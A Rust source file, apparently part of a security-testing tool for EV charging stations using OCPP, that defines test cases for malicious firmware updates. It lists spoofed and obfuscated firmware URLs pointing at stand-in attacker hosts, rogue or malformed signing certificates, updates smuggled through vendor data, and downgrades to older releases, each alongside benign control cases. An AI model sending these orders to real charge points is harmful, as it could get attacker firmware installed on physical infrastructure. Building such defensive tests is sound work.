//! C01, C02 and C03: software that is not the maker's, or not the latest.

use chargewarden_ocpp::Version;
use serde_json::json;

use crate::attack::{ALL, Attack, Entry, Kind, Order, Papers, Spot, Twin, V2, order, variables, vendor_data};

const V16: &[Version] = &[Version::V16];

/// Where an attacker would have software come from: elsewhere, or so spelled that somebody takes it for the maker's.
const ELSEWHERE: &[&str] = &[
    "http://203.0.113.9/acme/evil.bin",
    "https://203.0.113.9/acme/evil.bin",
    "https://evil.example/acme/1.9.0.bin",
    "https://firmware.example.com.evil.example/1.9.0.bin",
    "https://firmware.example.com@evil.example/1.9.0.bin",
    "https://firmware.example.com:1.9@evil.example/fw.bin",
    "https://evil.example/firmware.example.com/1.9.0.bin",
    "https://evil.example/?firmware.example.com",
    "https://evil.example#firmware.example.com",
    "https://evil.example\\@firmware.example.com/1.9.0.bin",
    "https://firmware.example.com\\.evil.example/1.9.0.bin",
    "https://firmware-example.com/1.9.0.bin",
    "https://firmware.example.co/1.9.0.bin",
    "https://firmware.examp1e.com/1.9.0.bin",
    "https://xn--firmware-example-9db.com/1.9.0.bin",
    "https://3405803785/evil.bin",
    "https://0xcb007109/evil.bin",
    "https://0313.0.0161.011/evil.bin",
    "https://[2001:db8::bad]/evil.bin",
    "https://[::ffff:203.0.113.9]/evil.bin",
    "ftp://anonymous:x@203.0.113.9/evil.bin",
    "//evil.example/1.9.0.bin",
    "file:///media/usb/evil.bin",
    "tftp://10.0.0.5/evil.bin",
    "data:application/octet-stream;base64,AAAA",
    "HTTPS://EVIL.EXAMPLE/1.9.0.bin",
    "https:evil.example/1.9.0.bin",
    "https:///evil.example/1.9.0.bin",
    "https://firmware.example.com%2eevil.example/1.9.0.bin",
    "https://firmware.example.com%00.evil.example/1.9.0.bin",
    "https://firmware.example.com\u{3002}evil.example/1.9.0.bin",
];

/// The right place, in a way that anybody on the path can change what comes.
const IN_THE_CLEAR: &[&str] = &[
    "http://firmware.example.com/acme/1.9.0.bin",
    "ftp://firmware.example.com/acme/1.9.0.bin",
    "HTTP://firmware.example.com/acme/1.9.0.bin",
    "tftp://firmware.example.com/acme/1.9.0.bin",
];

const GENUINE: &str = "https://firmware.example.com/acme/twin/1.9.0.bin";

/// C01.
pub(super) fn unsigned() -> Entry {
    Entry {
        id: "C01",
        name: "software from where it should not come",
        versions: V16,
        kind: Kind::Hard,
        attacks: vec![
            Attack::orders("from elsewhere", ALL, |at| all(at, ELSEWHERE)),
            Attack::orders("in the clear", ALL, |at| all(at, IN_THE_CLEAR)),
            Attack::orders("with dates and retries", V16, |at: &Spot| {
                let update = |more: serde_json::Value| {
                    let mut update =
                        json!({ "location": "http://203.0.113.9/evil.bin", "retrieveDate": at.time(0) });
                    if let (Some(update), Some(more)) = (update.as_object_mut(), more.as_object()) {
                        update.extend(more.clone());
                    }
                    order("UpdateFirmware", update)
                };
                vec![
                    update(json!({ "retries": 3 })),
                    update(json!({ "retryInterval": 1 })),
                    update(json!({ "retrieveDate": at.time(86_400 * 30) })),
                    update(json!({ "retrieveDate": "1970-01-01T00:00:00Z" })),
                ]
            }),
            Attack::orders("a vendor's setting for updates", ALL, |at: &Spot| {
                let keys = [
                    "FirmwareURL",
                    "firmware_url",
                    "AutoUpdateServer",
                    "UpdateServerUrl",
                    "fw-update-host",
                    "OTA.Server",
                    "SoftwareRepository",
                    "FirmwareUpdateLocation",
                ];
                keys.iter().map(|key| vendor_setting(at, key, "https://evil.example/fw/")).collect()
            }),
            Attack::orders("inside vendor data", ALL, |at: &Spot| {
                let inner = json!({ "location": "https://evil.example/fw.bin", "retrieveDate": at.now });
                let v2x = json!({ "requestId": 1, "firmware": { "location": "https://evil.example/fw.bin",
                    "retrieveDateTime": at.now } });
                vec![
                    vendor_data("com.example.listed", "UpdateFirmware", &inner.to_string()),
                    vendor_data("com.example.listed", "updatefirmware", &inner.to_string()),
                    vendor_data("com.example.listed", "UpdateFirmware", &v2x.to_string()),
                    vendor_data("Acme", "UpdateFirmware", &inner.to_string()),
                    vendor_data("Acme", "flash", "https://evil.example/fw.bin"),
                    vendor_data("COM.EXAMPLE.LISTED ", "UpdateFirmware", &inner.to_string()),
                ]
            }),
            Attack::order("the right place, to everybody at once", V16, |at: &Spot| {
                at.firmware(GENUINE, None)
            })
            .judged(Kind::Cumulative),
            Attack::new("the right place, scattered over the sites", V16, |play| {
                let targets = play.scattered(play.targets());
                play.campaign_over(&targets, |play, place| {
                    if let Some(spot) = play.spot(place) {
                        play.strike(place, &spot.firmware("https://firmware.example.com/b7781.bin", None));
                    }
                });
            })
            .judged(Kind::Cumulative),
        ],
        twins: vec![Twin::asks("the first station of a release", V16, |at| at.firmware(GENUINE, None))],
    }
}

/// C02.
pub(super) fn unknown_signer() -> Entry {
    let papers = Papers::get();
    Entry {
        id: "C02",
        name: "software signed by nobody known, or handed on by a controller",
        versions: ALL,
        kind: Kind::Hard,
        attacks: vec![
            Attack::orders("signed by a stranger", ALL, |at: &Spot| {
                [&papers.rogue_signer, &papers.rogue_leaf, &papers.rogue_root, &papers.namesake_root]
                    .iter()
                    .map(|signer| at.firmware(GENUINE, Some((signer, "AAAA"))))
                    .collect()
            }),
            Attack::orders("a certificate that is none", ALL, |at: &Spot| {
                let stranger_behind = format!("{}{}", papers.rogue_signer, papers.signer);
                let unarmoured = papers.rogue_signer.replace("-----BEGIN CERTIFICATE-----", "");
                [
                    "",
                    "x",
                    "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----",
                    &unarmoured,
                    &stranger_behind,
                ]
                .iter()
                .map(|signer| at.firmware(GENUINE, Some((signer, "AAAA"))))
                .collect()
            }),
            Attack::orders("not signed, or half", V2, |at: &Spot| {
                let half = |member: &str, value: &str| {
                    let mut firmware = json!({ "location": GENUINE, "retrieveDateTime": at.time(60) });
                    if let Some(firmware) = firmware.as_object_mut() {
                        firmware.insert(member.to_owned(), json!(value));
                    }
                    order("UpdateFirmware", json!({ "requestId": 3, "firmware": firmware }))
                };
                vec![
                    at.firmware(GENUINE, None),
                    half("signature", "AAAA"),
                    half("signingCertificate", &papers.signer),
                    at.firmware(GENUINE, Some((&papers.signer, ""))),
                ]
            }),
            Attack::orders("signed as it should be, from elsewhere", ALL, |at: &Spot| {
                let signed = |location: &&str| at.firmware(location, Some((&papers.signer, "c2lnbmF0dXJl")));
                ELSEWHERE.iter().chain(IN_THE_CLEAR).map(signed).collect()
            }),
            Attack::orders("handed on by a local controller", V2, |at: &Spot| {
                let publish = |location: &&str| {
                    order(
                        "PublishFirmware",
                        json!({ "location": location, "checksum": "d41d8cd98f00b204e9800998ecf8427e",
                            "requestId": at.number }),
                    )
                };
                ELSEWHERE.iter().chain(IN_THE_CLEAR).map(publish).collect()
            }),
        ],
        twins: vec![
            Twin::asks("signed by the maker, from the right place", ALL, |at| {
                at.firmware(GENUINE, Some((&papers.signer, "c2lnbmF0dXJl")))
            }),
            Twin::asks("a controller ends a publication", V2, |_| {
                order("UnpublishFirmware", json!({ "checksum": "d41d8cd98f00b204e9800998ecf8427e" }))
            }),
        ],
    }
}

/// C03.
pub(super) fn older() -> Entry {
    let papers = Papers::get();
    Entry {
        id: "C03",
        name: "software older than what runs",
        versions: ALL,
        kind: Kind::Hard,
        attacks: vec![
            Attack::orders("signed and from the right place, but older", ALL, |at: &Spot| {
                [
                    "https://firmware.example.com/acme/twin/1.8.32.bin",
                    "https://firmware.example.com/acme/1.2.0/firmware.bin",
                    "https://firmware.example.com/acme/fw_v1.7.bin",
                    "https://firmware.example.com/acme/release-1-2-0.img",
                    "https://firmware.example.com/acme-1.8.4.tar.gz",
                    "https://firmware.example.com/download?product=twin22&version=1.6.9",
                    "https://firmware.example.com/acme/Twin-22_0.9.12_signed.bin",
                    "https://firmware.example.com/acme/1_8_3/update.swu",
                ]
                .iter()
                .map(|location| at.firmware(location, Some((&papers.signer, "c2lnbmF0dXJl"))))
                .collect()
            }),
            Attack::orders("older, and without a signature", V16, |at: &Spot| {
                [
                    "https://firmware.example.com/acme/twin/1.8.32.bin",
                    "https://firmware.example.com/acme/fw_v1.7.bin",
                ]
                .iter()
                .map(|location| at.firmware(location, None))
                .collect()
            }),
        ],
        twins: vec![
            Twin::asks("the next release", ALL, |at| {
                at.firmware(
                    "https://firmware.example.com/acme/twin/1.9.0.bin",
                    Some((&papers.signer, "c2lnbmF0dXJl")),
                )
            }),
            Twin::asks("a release with two digits", ALL, |at| {
                at.firmware(
                    "https://firmware.example.com/acme/twin/1.10.2.bin",
                    Some((&papers.signer, "c2lnbmF0dXJl")),
                )
            }),
        ],
    }
}

fn all(at: &Spot, locations: &[&str]) -> Vec<Order> {
    locations.iter().map(|location| at.firmware(location, None)).collect()
}

/// A setting that only a vendor knows.
pub(in super::super) fn vendor_setting(at: &Spot, key: &str, value: &str) -> Order {
    match at.version {
        Version::V16 => at.setting(key, value),
        Version::V201 | Version::V21 => variables(&[(&format!("AcmeCtrlr.{}", key.replace('.', "")), value)]),
    }
}
